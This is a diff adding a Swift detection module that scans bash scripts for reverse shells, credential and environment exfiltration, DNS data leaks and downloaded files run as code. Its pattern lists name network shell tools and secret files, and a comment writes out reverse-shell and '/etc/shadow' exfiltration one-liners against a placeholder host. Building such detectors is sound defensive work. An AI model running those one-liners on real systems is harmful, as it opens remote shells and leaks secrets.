@@ -1,0 +1,139 @@
+import Foundation
+
+/// Network clients: downloads run as code, secrets sent out, shells connected to remote
+/// hosts, data hidden in DNS names.
+enum NetworkRules {
+    static let senders: Set<String> = ["curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "sftp", "rsync", "ftp", "tftp", "telnet", "openssl", "ssh", "http", "xh"]
+    static let resolvers: Set<String> = ["dig", "nslookup", "host", "drill", "resolvectl", "getent"]
+
+    static func check(_ invocation: CommandInvocation, facts: inout BashScriptFacts, report: BashCommandRules.Report) {
+        let arguments = invocation.arguments.compactMap(\.value)
+        let offset = invocation.offset
+        // Reading secrets, by any command.
+        if readsSecrets(invocation) { facts.readSecrets = true }
+        switch invocation.name {
+        case "curl", "wget", "aria2c", "fetch":
+            if let output = downloadTarget(invocation) { facts.downloadedPaths.insert(output) }
+            if uploads(invocation) {
+                if facts.readSecrets || arguments.contains(where: { $0.contains("@") && Secrets.isSecretPath($0) }) {
+                    report(RuleCatalog.credentialsSent, offset, "\(invocation.name) sends secrets")
+                } else if invocation.upstream.contains(where: { ["env", "printenv", "set", "export", "declare"].contains($0) }) || arguments.contains(where: { $0.contains("/proc/self/environ") }) {
+                    report(RuleCatalog.environmentSent, offset, "\(invocation.name) sends the environment")
+                } else if invocation.upstream.contains(where: { ["mysqldump", "pg_dump", "pg_dumpall", "mongodump", "tar", "zip"].contains($0) }) {
+                    report(RuleCatalog.dataSent, offset, "\(invocation.name) sends \(invocation.upstream.joined(separator: "|"))")
+                }
+            }
+        case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "openssl":
+            let text = arguments.joined(separator: " ").lowercased()
+            if arguments.contains("-e") || arguments.contains("-c") || text.contains("--exec") || text.contains("--sh-exec")
+                || invocation.name == "socat" && (text.contains("exec:") || text.contains("system:")) {
+                report(RuleCatalog.reverseShell, offset, "\(invocation.name) runs a shell for a remote host")
+            } else if readsSecretInput(invocation) || facts.readSecrets {
+                report(RuleCatalog.credentialsSent, offset, "\(invocation.name) sends secrets")
+            } else if invocation.upstream.contains(where: { ["mysqldump", "pg_dump", "pg_dumpall", "tar", "env", "printenv"].contains($0) }) {
+                report(RuleCatalog.dataSent, offset, "\(invocation.name) sends \(invocation.upstream.joined(separator: "|"))")
+            }
+        case "scp", "sftp", "rsync":
+            let remote = invocation.operands.contains { ($0.value ?? "").range(of: ":") != nil && !($0.value ?? "").hasPrefix("/") }
+            if remote, invocation.operands.contains(where: { Secrets.isSecretPath($0.value ?? "") }) {
+                report(RuleCatalog.credentialsSent, offset, "\(invocation.name) copies secrets to a remote host")
+            }
+        case _ where resolvers.contains(invocation.name):
+            if invocation.operands.contains(where: { $0.value == nil || PSCommandRules.isDataInDNSName($0.value ?? "") }) {
+                report(RuleCatalog.dnsExfiltration, offset, "\(invocation.name) looks up a name built from data")
+            }
+        case "mysqldump", "pg_dump", "pg_dumpall", "mongodump":
+            if arguments.contains(where: { $0.hasPrefix("--result-file=") && $0.contains(":") }) {
+                report(RuleCatalog.dataSent, offset, invocation.name)
+            }
+        default:
+            break
+        }
+        // Downloaded files run as programs.
+        if facts.isDownloaded(invocation.name) || (["bash", "sh", "dash", "zsh", "python", "python3", "perl", "ruby", "node", "source", "."].contains(invocation.name)
+            && invocation.operands.first.map({ facts.isDownloaded($0.value ?? "\u{0}") }) == true) {
+            report(RuleCatalog.downloadThenRun, offset, "runs a file the script downloaded")
+        }
+        checkSocketRedirects(invocation, facts: facts, report: report)
+        checkInlineCode(invocation, report: report)
+    }
+
+    /// `bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/h/p`, `cat /etc/shadow > /dev/tcp/h/p`.
+    static func checkSocketRedirects(_ invocation: CommandInvocation, facts: BashScriptFacts, report: BashCommandRules.Report) {
+        for redirect in invocation.redirects {
+            guard let path = redirect.target.staticValue, path.hasPrefix("/dev/tcp/") || path.hasPrefix("/dev/udp/") else { continue }
+            if CommandNames.shells.contains(invocation.name) || invocation.name == "exec" || CommandNames.otherInterpreters.contains(invocation.name) {
+                report(RuleCatalog.reverseShell, redirect.offset, "connects \(invocation.name) to \(path)")
+            } else if facts.readSecrets || readsSecrets(invocation) {
+                report(RuleCatalog.credentialsSent, redirect.offset, "sends secrets to \(path)")
+            } else {
+                report(RuleCatalog.networkChange, redirect.offset, "writes to \(path)")
+            }
+        }
+    }
+
+    /// Inline programs in other interpreters: sockets with a shell, downloads run as code.
+    static func checkInlineCode(_ invocation: CommandInvocation, report: BashCommandRules.Report) {
+        guard CommandNames.otherInterpreters.contains(invocation.name) else { return }
+        let code = invocation.arguments.compactMap(\.value).joined(separator: " ").lowercased()
+        let socket = code.contains("socket") || code.contains("tcpsocket") || code.contains("fsockopen") || code.contains("net.connect") || code.contains("io::socket")
+        let shell = code.contains("subprocess") || code.contains("pty.spawn") || code.contains("os.dup2") || code.contains("/bin/sh") || code.contains("/bin/bash")
+            || code.contains("exec(") || code.contains("system(") || code.contains("child_process") || code.contains("popen")
+        if socket && shell {
+            report(RuleCatalog.reverseShell, invocation.offset, "\(invocation.name) connects a shell to a socket")
+            return
+        }
+        let download = code.contains("urlopen") || code.contains("urllib") || code.contains("requests.get") || code.contains("lwp::") || code.contains("open-uri") || code.contains("http.get")
+        let runs = code.contains("exec(") || code.contains("eval(") || code.contains("system(") || code.contains("subprocess")
+        if download && runs {
+            report(RuleCatalog.pipeDownloadToInterpreter, invocation.offset, "\(invocation.name) downloads code and runs it")
+        }
+    }
+
+    /// Whether the command reads a secret: as an operand, an input redirection, or a
+    /// `find` for key files.
+    static func readsSecrets(_ invocation: CommandInvocation) -> Bool {
+        if invocation.operands.contains(where: { Secrets.isSecretPath($0.value ?? "") }) { return true }
+        if invocation.arguments.contains(where: { ($0.value ?? "").contains("@") && Secrets.isSecretPath($0.value ?? "") }) { return true }
+        if readsSecretInput(invocation) { return true }
+        if invocation.name == "find" {
+            let patterns = invocation.arguments.compactMap(\.value).map { $0.lowercased() }
+            return patterns.contains { $0.hasPrefix("id_") || $0.contains("id_rsa") || $0.contains("id_ed25519") || $0.hasSuffix(".pem") || $0.hasSuffix(".key") || $0.contains("credentials") || $0 == "shadow" }
+        }
+        return false
+    }
+
+    static func readsSecretInput(_ invocation: CommandInvocation) -> Bool {
+        invocation.redirects.contains { $0.op == .input && Secrets.isSecretPath($0.target.staticValue ?? "") }
+    }
+
+    /// The file a download writes, if it is saved.
+    static func downloadTarget(_ invocation: CommandInvocation) -> String? {
+        let arguments = invocation.arguments.compactMap(\.value)
+        for (index, argument) in arguments.enumerated() {
+            if ["-o", "-O", "--output", "--output-document"].contains(argument), index + 1 < arguments.count {
+                if argument == "-O" && invocation.name == "curl" { break }
+                return arguments[index + 1]
+            }
+            if argument.hasPrefix("--output-document=") || argument.hasPrefix("--output=") {
+                return String(argument.split(separator: "=", maxSplits: 1).last ?? "")
+            }
+            if argument.hasPrefix("-o"), argument.count > 2, invocation.name == "curl" { return String(argument.dropFirst(2)) }
+        }
+        // `curl -O URL`, `wget URL`: saved under the URL's last path component.
+        let saves = invocation.name == "wget" && !arguments.contains("-qO-") && !arguments.contains("-O-") || arguments.contains("-O") || arguments.contains("--remote-name")
+        if saves, let url = invocation.operands.last?.value, url.contains("/") {
+            return String(url.split(separator: "/").last ?? "")
+        }
+        return nil
+    }
+
+    /// Whether a curl or wget call sends data rather than only fetching.
+    static func uploads(_ invocation: CommandInvocation) -> Bool {
+        let arguments = invocation.arguments.compactMap(\.value)
+        return arguments.contains { argument in
+            ["-d", "-F", "-T", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--form", "--upload-file", "--post-file", "--post-data", "--body-file"].contains(argument)
+                || argument.hasPrefix("--data") || argument.hasPrefix("--post-") || argument.hasPrefix("-d@") || argument.hasPrefix("-F")
+        } || arguments.contains("-X") && arguments.contains { ["POST", "PUT", "PATCH"].contains($0) }
+    }
+}
